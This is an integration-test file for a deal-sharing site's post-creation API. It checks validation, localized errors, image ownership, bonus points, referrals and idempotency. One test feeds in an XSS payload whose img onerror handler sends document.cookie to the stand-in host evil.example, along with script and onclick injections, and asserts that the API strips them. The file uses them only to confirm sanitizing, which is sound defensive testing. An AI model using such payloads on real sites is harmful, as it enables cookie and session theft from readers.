import { and, eq, sql } from 'drizzle-orm';
import { describe, expect, it, vi } from 'vitest';
import { POST_LIMITS } from '@/lib/schemas/post';
import { executeRows } from '../db/client';
import * as schema from '../db/schema';
import { useApiHarness } from '../test-support/api-harness';
import { postErrorText } from '../services/posts/messages';
import { BONUS, day, POST_TYPES, reportPayload, seedPostWorld, type PostWorld } from './posts.fixtures';

vi.setConfig({ testTimeout: 60_000 });

type Created = { data: { id: number; status: string; url: string; bonus_impact: number } };

describe('POST /posts', () => {
  let w: PostWorld;
  const api = useApiHarness({
    timeoutMs: 60_000,
    seed: async (db) => {
      w = await seedPostWorld(db);
    },
  });
  const post = (token: string | undefined, body: Record<string, unknown>, options: { locale?: string; key?: string } = {}) =>
    api.call<Created>('POST', '/posts', {
      token,
      body,
      locale: options.locale,
      headers: options.key ? { 'Idempotency-Key': options.key } : {},
    });
  const balance = async (userId: number) =>
    (await api.db.select().from(schema.pointsAccounts).where(eq(schema.pointsAccounts.userId, userId)))[0]?.available ?? 0;

  it('refuses guests', async () => {
    expect((await post(undefined, reportPayload(w))).status).toBe(401);
  });

  describe('checks every rule of the schema and answers 422 in the request language', () => {
    const nl = (key: Parameters<typeof postErrorText>[1]) => postErrorText('nl', key);
    const cases: [string, () => Record<string, unknown>, Record<string, string[]>][] = [
      ['title required', () => reportPayload(w, { title: '   ' }), { title: [nl('title')] }],
      ['title too long', () => reportPayload(w, { title: 'x'.repeat(POST_LIMITS.title + 1) }), { title: [nl('title')] }],
      ['content required', () => reportPayload(w, { content: undefined }), { content: [nl('content')] }],
      ['a report needs a category', () => reportPayload(w, { categories: [] }), { categories: [nl('category')] }],
      ['at most 2 categories', () => reportPayload(w, { categories: w.categories }), { categories: [nl('category')] }],
      ['categories must exist', () => reportPayload(w, { categories: [987654] }), { categories: [nl('category')] }],
      ['type required', () => reportPayload(w, { type_id: undefined }), { type_id: [nl('type')] }],
      ['a type with subtypes is no choice', () => reportPayload(w, { type_id: POST_TYPES.report }), { type_id: [nl('type')] }],
      ['the type must exist', () => reportPayload(w, { type_id: 4242 }), { type_id: [nl('type')] }],
      ['origin_url shape', () => reportPayload(w, { origin_url: 'javascript:alert(1)' }), { origin_url: [nl('origin_url')] }],
      [
        'discount posts need code, webshop and end date',
        () => reportPayload(w, { type_id: POST_TYPES.discountCode }),
        { discount_code: [nl('discount_code')], webshop_id: [nl('webshop')], expired_at: [nl('expired_at')] },
      ],
      [
        'the webshop must exist',
        () => reportPayload(w, { type_id: POST_TYPES.discountCode, discount_code: 'X', webshop_id: 999999, expired_at: day(5) }),
        { webshop_id: [nl('webshop')] },
      ],
      ['start date when not started', () => reportPayload(w, { not_started: true }), { started_at: [nl('started_at')] }],
      ['dates as YYYY-MM-DD', () => reportPayload(w, { started_at: '12/01/2030' }), { started_at: [nl('format')] }],
      ['start not after end', () => reportPayload(w, { started_at: day(5), expired_at: day(3) }), { started_at: [nl('date_range')] }],
      ['no date before yesterday', () => reportPayload(w, { expired_at: day(-2) }), { expired_at: [nl('date_range')] }],
      ['prices above 0', () => reportPayload(w, { only_price: true, new_price: 0 }), { new_price: [nl('format')] }],
      ['prices at most 999999', () => reportPayload(w, { only_price: true, old_price: 1_000_000 }), { old_price: [nl('format')] }],
      ['discount value a number', () => reportPayload(w, { only_discount: true, discount_value: 'veel' }), { discount_value: [nl('format')] }],
      ['a percentage discount at most 100', () => reportPayload(w, { only_discount: true, discount_value: 150 }), { discount_value: [nl('discount_percent')] }],
      ['an old price above the new one', () => reportPayload(w, { only_price: true, old_price: 49.99, new_price: 79.99 }), { old_price: [nl('price_order')] }],
      ['shipping number a number', () => reportPayload(w, { shipping_number: -3 }), { shipping_number: [nl('numbers_only')] }],
      ['one of price, discount, another type', () => reportPayload(w, { only_price: true, only_discount: true }), { only_discount: [nl('format')] }],
      ['discount type percent or euro', () => reportPayload(w, { discount_type: 'dollar' }), { discount_type: [nl('format')] }],
    ];
    it.each(cases)('%s', async (_name, payload, errors) => {
      const m = await w.member();
      const answer = await post(m.token, payload());
      expect(answer.status).toBe(422);
      expect(answer.body).toMatchObject({ errors });
      expect(Object.keys((answer.body as unknown as { errors: object }).errors).sort()).toEqual(Object.keys(errors).sort());
    });

    it('in French when the Language is fr', async () => {
      const m = await w.member();
      const answer = await post(m.token, reportPayload(w, { title: '', categories: [] }), { locale: 'fr' });
      expect(answer).toMatchObject({ status: 422, body: { errors: { title: [postErrorText('fr', 'title')], categories: [postErrorText('fr', 'category')] } } });
    });

    it('at most 4 images, each one of the author’s own uploads', async () => {
      const m = await w.member();
      const other = await w.member();
      const image = (path: string) => ({ name: 'a.jpg', url: `/api/media/${path}`, path, disk: 's3' });
      const tooMany = await post(m.token, reportPayload(w, { images: Array.from({ length: 5 }, () => image(m.upload)) }));
      expect(tooMany).toMatchObject({ status: 422, body: { errors: { images: [postErrorText('nl', 'format')] } } });
      const foreign = await post(m.token, reportPayload(w, { images: [image(other.upload)] }));
      expect(foreign).toMatchObject({ status: 422, body: { errors: { images: ['Gebruik alleen afbeeldingen die je zelf uploadde.'] } } });
      const unknown = await post(m.token, reportPayload(w, { images: [image('uploads/nobody.jpg')] }));
      expect(unknown.status).toBe(422);
      // Their own avatar is an upload of theirs, but not a post image.
      await api.db.insert(schema.uploads).values({ userId: m.id, path: `avatars/${m.id}.jpg`, mime: 'image/jpeg', size: 10, disk: 'local' });
      expect((await post(m.token, reportPayload(w, { images: [image(`avatars/${m.id}.jpg`)] }))).status).toBe(422);
      const own = await post(m.token, reportPayload(w, { images: [image(m.upload)] }));
      expect(own.status).toBe(201);
      // The disk is the upload's, not what the client claims.
      expect(await api.db.select({ path: schema.postImages.path, disk: schema.postImages.disk }).from(schema.postImages).where(eq(schema.postImages.postId, own.body.data.id))).toEqual([
        { path: m.upload, disk: 'local' },
      ]);
    });

    it('stores another_type cut at 22 characters and a bare domain as an https address', async () => {
      const m = await w.member();
      const created = await post(m.token, reportPayload(w, { only_another_type: true, another_type: 'Tweede artikel aan halve prijs', origin_url: 'klikshop.be/actie' }));
      expect(created.status).toBe(201);
      const [row] = await api.db.select().from(schema.posts).where(eq(schema.posts.id, created.body.data.id));
      expect(row).toMatchObject({ anotherType: 'Tweede artikel aan hal', originUrl: 'https://klikshop.be/actie' });
    });
  });

  describe('publishes at once', () => {
    it('a report with optional content: live in the feed and on the profile, the author paid, followers and alerts queued', async () => {
      const m = await w.member();
      const created = await post(m.token, reportPayload(w, { only_price: true, new_price: '9,99', old_price: 15, webshop_id: w.webshop, expired_at: day(7) }));
      expect(created).toMatchObject({ status: 201, body: { data: { status: 'approved', url: `/posts/${created.body.data.id}`, bonus_impact: BONUS.report + BONUS.optional } } });
      expect(await balance(m.id)).toBe(BONUS.report + BONUS.optional);

      const id = created.body.data.id;
      const feed = await api.ok<{ data: { morphable_type: string; morphable_id: number }[] }>('/feed-items?per_page=50');
      expect(feed.data).toContainEqual(expect.objectContaining({ morphable_type: 'Post', morphable_id: id }));
      const profileFeed = await api.ok<{ data: { morphable_id: number }[] }>(`/feed-items?filters[users][]=${m.id}`);
      expect(profileFeed.data.map((item) => item.morphable_id)).toEqual([id]);
      expect(await api.data(`/profile/${m.id}`)).toMatchObject({ promos_count: 1 });
      expect(await api.data(`/posts/${id}`)).toMatchObject({ status: 'approved', new_price: 9.99 });

      const jobs = await executeRows<{ name: string }>(api.db, sql`select name from pgboss.job where data->>'id' = ${String(id)} order by name`);
      expect(jobs.map((job) => job.name)).toEqual(['deal-alerts-match', 'notify-followers']);
      expect(await api.runJobs()).toMatchObject({ failed: 0 });
    });

    it('a post’s text cannot run in a reader’s page: the API gives it out cleaned, its lines kept', async () => {
      const m = await w.member();
      const content = '<img src=x onerror="fetch(\'//evil.example/?\'+document.cookie)">Goede deal\nTweede regel\n\n<a href="https://klikshop.be/x" onclick="steal()">hier</a> & <script>alert(1)</script>';
      const created = await post(m.token, reportPayload(w, { content }));
      expect(created.status).toBe(201);
      const detail = await api.call<{ data: { content: string } }>('GET', `/posts/${created.body.data.id}`, { token: m.token });
      expect(detail.status).toBe(200);
      expect(detail.body.data.content).toBe('<p>Goede deal<br>Tweede regel</p><p><a href="https://klikshop.be/x" rel="nofollow ugc noopener">hier</a> &amp; </p>');
    });

    it('a question needs no category and pays its own bonus; the url is in the request language', async () => {
      const m = await w.member();
      const created = await post(m.token, reportPayload(w, { type_id: POST_TYPES.question, categories: [] }), { locale: 'fr' });
      expect(created).toMatchObject({ status: 201, body: { data: { status: 'approved', url: `/fr/posts/${created.body.data.id}`, bonus_impact: BONUS.question } } });
      const [row] = await api.db.select({ locale: schema.posts.locale }).from(schema.posts).where(eq(schema.posts.id, created.body.data.id));
      expect(row?.locale).toBe('fr');
    });

    it('a discount post with everything it needs; optional content pays nothing extra outside reports', async () => {
      const m = await w.member();
      const created = await post(
        m.token,
        reportPayload(w, { type_id: POST_TYPES.discountCode, discount_code: 'KLIK20', webshop_id: w.webshop, not_started: true, started_at: day(2), expired_at: day(9), discount_type: 'euro', only_discount: true, discount_value: 20 }),
      );
      expect(created).toMatchObject({ status: 201, body: { data: { status: 'approved', bonus_impact: BONUS.discount } } });
    });

    it("a friend's first published post pays the referrer once", async () => {
      const referrer = await w.member();
      const friend = await w.member({ invitedBy: referrer.id });
      expect((await post(friend.token, reportPayload(w))).status).toBe(201);
      expect((await post(friend.token, reportPayload(w))).status).toBe(201);
      expect(await balance(referrer.id)).toBe(BONUS.referral);
    });
  });

  describe('is idempotent', () => {
    const postsOf = async (userId: number) => api.db.select({ id: schema.posts.id }).from(schema.posts).where(eq(schema.posts.userId, userId));

    it('the same key twice answers the same post once', async () => {
      const m = await w.member();
      const payload = reportPayload(w);
      const first = await post(m.token, payload, { key: 'post-key-1' });
      const second = await post(m.token, payload, { key: 'post-key-1' });
      expect(first.status).toBe(201);
      expect(second).toEqual(first);
      expect(second.headers.get('Idempotent-Replayed')).toBe('true');
      expect(await postsOf(m.id)).toHaveLength(1);
      expect(await balance(m.id)).toBe(BONUS.report);
    });

    it('two at once with the same key make one post', async () => {
      const m = await w.member();
      const payload = reportPayload(w);
      const answers = await Promise.all([post(m.token, payload, { key: 'parallel-key' }), post(m.token, payload, { key: 'parallel-key' })]);
      const statuses = answers.map((answer) => answer.status).sort();
      expect([[201, 201], [201, 409]]).toContainEqual(statuses);
      expect(await postsOf(m.id)).toHaveLength(1);
      expect(await balance(m.id)).toBe(BONUS.report);
    });

    it('a repeat after the first request was lost past the middleware still answers the stored post', async () => {
      const m = await w.member();
      const payload = reportPayload(w);
      const first = await post(m.token, payload, { key: 'crashed-key' });
      // As if the process died after committing the post but before keeping its answer.
      await api.db.delete(schema.idempotencyKeys).where(eq(schema.idempotencyKeys.caller, `user:${m.id}`));
      const again = await post(m.token, payload, { key: 'crashed-key' });
      expect(again).toEqual(first);
      expect(await postsOf(m.id)).toHaveLength(1);
      expect(await balance(m.id)).toBe(BONUS.report);
      const [row] = await api.db.select({ key: schema.posts.idempotencyKey }).from(schema.posts).where(and(eq(schema.posts.userId, m.id)));
      expect(row?.key).toMatch(/^[0-9a-f]{64}$/);
    });

    it('without a key, the same payload twice makes two posts (the second held as a near-duplicate)', async () => {
      const m = await w.member();
      const payload = reportPayload(w);
      expect((await post(m.token, payload)).body.data.status).toBe('approved');
      expect((await post(m.token, payload)).body.data.status).toBe('pending');
      expect(await postsOf(m.id)).toHaveLength(2);
    });
  });
});
